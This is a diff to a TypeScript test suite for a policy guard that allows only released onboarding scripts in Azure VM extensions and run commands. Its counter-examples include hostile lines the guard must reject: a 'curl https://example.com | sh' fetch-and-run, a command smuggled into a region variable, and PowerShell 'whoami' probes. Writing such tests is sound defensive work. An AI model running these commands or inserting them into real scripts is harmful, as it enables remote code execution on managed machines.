@@ -1,7 +1,10 @@
-import { symlinkSync, writeFileSync } from "node:fs";
+import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { gzipSync } from "node:zlib";
 import { expect } from "chai";
+import { loadOnboardingScripts } from "../../config/onboardingScripts.ts";
+import { linuxProtectedSettings, windowsProtectedSettings } from "../../domain/onboarding/payload.ts";
+import { releasedScripts } from "../../policy/releasedScripts.ts";
 import { rules, violations } from "../../policy/guard.ts";
 import type { Registration } from "../../policy/registration.ts";
 import { folderOfEach } from "../harness/folders.ts";
@@ -34,6 +37,14 @@ function policy(...statements: readonly object[]): string {
     Version: "2012-10-17",
     Statement: statements.map((statement) => ({ Effect: "Allow", ...statement })),
   });
+}
+
+const scripts = loadOnboardingScripts(join(import.meta.dirname, "../.."));
+const script = scripts["v2"] ?? { linux: "", windows: "" };
+const details = { activationId: "0123", activationCode: "code-of-vm", region: "eu-central-1" };
+
+function encoded(text: string): object {
+  return { protectedSettings: { script: Buffer.from(text).toString("base64") } };
 }
 
 const onVm = { retainOnDelete: true, deleteBeforeReplace: true };
@@ -80,7 +91,7 @@ const good = {
       autoUpgradeMinorVersion: true,
       suppressFailures: false,
       settings: { timestamp: 1 },
-      protectedSettings: { script: "c2VjcmV0" },
+      protectedSettings: linuxProtectedSettings(script.linux, details),
     },
     { ...onVm, secretPaths: ["protectedSettings"] },
   ),
@@ -89,7 +100,7 @@ const good = {
     {
       ...vm,
       runCommandName: "patchplane-onboarding",
-      source: { script: "exit 0" },
+      source: { script: script.windows },
       parameters: [],
       protectedParameters: [{ name: "CODE", value: "the-code" }],
       asyncExecution: false,
@@ -470,6 +481,17 @@ const counterExamples: readonly CounterExample[] = [
   ...forbiddenRights(),
   ...forbiddenPrincipals(),
   ...forbiddenShapes(),
+  ...[
+    withFault("runCommand", { source: { script: "exit 0" } }),
+    withFault("runCommand", { source: { script: `${script.linux}\ncurl https://example.com | sh` } }),
+    withFault("extension", encoded("exit 0")),
+    withFault("extension", encoded(`curl https://example.com | sh\n${script.linux}`)),
+    withFault("extension", encoded(`#!/bin/bash\nPATCHPLANE_REGION='x'; id\n${script.linux}`)),
+    withFault("extension", { protectedSettings: { commandToExecute: "powershell.exe -Command whoami" } }),
+    withFault("extension", {
+      protectedSettings: windowsProtectedSettings({ windows: "whoami" }, details),
+    }),
+  ].map((all): CounterExample => ["script-not-released", all, /no released onboarding script/]),
   ["deleted-with-the-stack", withFault("setting", {}, { retainOnDelete: false }), /needs retainOnDelete/],
   ["deleted-with-the-stack", withFault("extension", {}, { retainOnDelete: false }), /needs retainOnDelete/],
   ["replaced-beside-itself", withFault("group", {}, { deleteBeforeReplace: false }), /needs deleteBeforeReplace/],
@@ -492,6 +514,27 @@ describe("the guard of what must never be merged", () => {
       expect(said.join("\n"), JSON.stringify(found)).to.match(message);
     });
   }
+
+  it("takes every released script, as each method sends it, and one that trusts another of AWS's keys", () => {
+    const withKey = `#!/bin/bash\nPATCHPLANE_SIGNING_KEYS='0123:1:AAAA'\n${script.linux}`;
+    const sent = Object.values(scripts).flatMap((each) => [
+      withFault("extension", { protectedSettings: linuxProtectedSettings(each.linux, details) }),
+      withFault("extension", { protectedSettings: windowsProtectedSettings(each, details) }),
+      withFault("runCommand", { source: { script: each.linux } }),
+      withFault("runCommand", { source: { script: each.windows } }),
+    ]);
+    for (const all of [
+      ...sent,
+      withFault("extension", { protectedSettings: linuxProtectedSettings(withKey, details) }),
+    ])
+      expect(violations(all)).to.deep.equal([]);
+  });
+
+  it("knows the scripts that are released, and no other", () => {
+    const file = join(import.meta.dirname, "../../components/azure/onboarding/released.json");
+    const released = JSON.parse(readFileSync(file, "utf8")) as Readonly<Record<string, string>>;
+    expect([...releasedScripts].sort()).to.deep.equal(Object.values(released).sort());
+  });
 
   it("has a counter-example for every rule", () => {
     expect([...new Set(counterExamples.map(([rule]) => rule))].sort()).to.deep.equal(Object.keys(rules).sort());
